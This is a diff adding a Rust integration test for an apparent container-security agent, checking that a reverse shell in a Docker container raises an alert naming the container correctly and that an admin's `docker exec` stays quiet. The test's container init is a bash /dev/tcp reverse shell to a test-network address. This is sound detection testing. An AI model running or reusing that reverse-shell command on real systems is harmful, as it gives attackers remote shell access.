@@ -17,7 +17,13 @@
 //!   (`--restart=on-failure:1`) brings back is a `respawn` restarted by the runtime (Podman,
 //!   through a new `conmon`), and the alert names the container.
 //!
-//! Needs root, podman and runc (`scripts/setup.sh`); skips loudly otherwise.
+//! - A Docker container (Debian's docker.io, a dockerd of the test's own,
+//!   `tests/common/docker.rs`) with a reverse shell as its init is named in the alert and the
+//!   events as Docker's own `config.v2.json` gives it (id, name, image); so is an admin's
+//!   `docker exec`, which raises nothing.
+//!
+//! Needs root, podman and runc, and docker.io for the Docker test (`scripts/setup.sh`); skips
+//! loudly otherwise.
 
 mod common;
 
@@ -472,4 +478,76 @@ fn a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime()
         .unwrap();
     assert_eq!(String::from_utf8_lossy(&restarts.stdout).trim(), "1");
     assert!(agent.status()["kills"].as_u64().unwrap_or(0) >= 1);
+}
+
+#[test]
+fn a_docker_container_is_named_as_dockers_own_config_gives_it() {
+    let test = "a_docker_container_is_named_as_dockers_own_config_gives_it";
+    if !require_root(test) || !common::docker::available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("d");
+    let _listener = holding_listener(&net, 4449);
+    let Some(mut docker) = common::docker::Docker::start() else {
+        return;
+    };
+    let agent = Agent::start_with(
+        "",
+        &format!(
+            "[containers]\ndocker_root = \"{}\"\n",
+            docker.data_root().display()
+        ),
+    );
+    let name = format!("snt-docker-{}", std::process::id());
+    // The host's network (dockerd here has no bridge): the init is a reverse shell to RU4.
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4449 >&0");
+    let id = docker.run(&name, &["--network=host"], &["bash", "-c", &shell]);
+    let alert = agent.wait_for("alert", "the Docker container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    // As Docker's own state says it.
+    let inspect = docker
+        .cmd()
+        .args(["inspect", "-f", "{{.Name}} {{.Config.Image}}", &name])
+        .output()
+        .unwrap();
+    let inspect = String::from_utf8_lossy(&inspect.stdout).trim().to_string();
+    assert_eq!(
+        inspect,
+        format!("/{name} {}", common::docker::IMAGE),
+        "docker inspect"
+    );
+    let names_it = |v: &Value| {
+        let c = container_of(v);
+        assert_eq!(c["id"], id.as_str(), "{v}");
+        assert_eq!(c["runtime"], "docker", "{v}");
+        assert_eq!(c["name"], name.as_str(), "{v}");
+        assert_eq!(c["image"], common::docker::IMAGE, "{v}");
+    };
+    names_it(&alert);
+    let exec = agent.wait_for("exec", "the container's init", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"]
+                .to_string()
+                .contains(&format!("/dev/tcp/{RU4}/4449"))
+    });
+    names_it(&exec);
+    // The admin's `docker exec` is in the container too, below the shim, and raises nothing.
+    let out = docker.exec(&name, &["bash", "-c", "id; echo admin-was-here"]);
+    assert!(out.status.success(), "{out:?}");
+    let admin = agent.wait_for("exec", "the admin's shell", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"].to_string().contains("admin-was-here")
+    });
+    names_it(&admin);
+    std::thread::sleep(Duration::from_secs(2));
+    let alerts = agent.events("alert");
+    assert!(
+        !alerts
+            .iter()
+            .any(|a| a["detail"].to_string().contains("admin-was-here")
+                || a["pid"] == admin["pid"]),
+        "the admin's exec raised an alert: {alerts:?}"
+    );
 }
